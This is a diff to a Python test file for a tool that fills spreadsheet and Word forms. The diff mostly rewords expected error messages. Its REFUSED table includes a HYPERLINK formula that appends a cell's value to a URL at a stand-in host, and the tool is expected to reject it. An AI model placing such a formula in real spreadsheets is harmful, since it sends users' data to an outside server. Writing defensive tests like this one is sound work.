@@ -267,7 +267,7 @@ def test_fixed_rows_are_as_many_as_they_are() -> None:
     assert shown(filled(with_cells(row)))["A6"] == "末"
     assert "防灾展览健康讲座急救演练" in shown(filled(with_cells(cells)))["A1"]
     (fault,) = faults(with_cells({**row, "A1": row["A1"].replace("5", "2")}))
-    assert "1 more than the 2 rows" in fault
+    assert "1 more than the form's 2 rows" in fault
 
 
 FORMULAS = (
@@ -298,7 +298,7 @@ def test_formulas_follow_rows() -> None:
 def test_formulas_that_nobody_can_move_are_found_before_filling() -> None:
     unsure = {"C4": "B2", "D4": "B2*1", "E4": "IF(B2,1,2)", "F4": "SUM(B2+1)", "G4": "B3+SUM(B2)"}
     found = faults(with_cells({"A1": "头", **LOOP, **{cell: f"={formula}" for cell, formula in unsure.items()}}), EMPTY)
-    assert [re.findall("cell (..) names B2, of rows that are repeated or left out", fault) for fault in found] == [
+    assert [re.findall("cell (..) refers to B2, in rows that are repeated or left out", fault) for fault in found] == [
         [cell] for cell in ("C4", "D4", "E4", "F4")
     ]
 
@@ -579,8 +579,8 @@ REFUSED = {
     "elsewhere": (_formula("SUM(A2,[1]S!A1)"), "a formula that names another workbook or program"),
     "link": (_formula('HYPERLINK("http://x.example/?"&A1,"看")'), "a formula whose link is put together"),
     "xls": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "Workbook".encode("utf-16-le"), "save it as .xlsx"),
-    "no zip": (b"PK\3\4xl/workbook.xml", "no form"),
-    "text": (b"a,b", "no Word document"),
+    "no zip": (b"PK\3\4xl/workbook.xml", "the file is broken"),
+    "text": (b"a,b", "this is not a Word document"),
 }  # fmt: skip
 
 
@@ -590,7 +590,7 @@ def test_what_may_act_is_refused(name: str) -> None:
     form, expected = REFUSED[name]
     with pytest.raises((DocumentError, RenderError)) as caught:
         filled(form) if name != "text" else kepu_docs.render(kepu_docs.load(EMPTY), "docx", form=form)
-    assert expected in str(caught.value) or name in ("no zip", "text")
+    assert expected in str(caught.value)
 
 
 @pytest.mark.deep
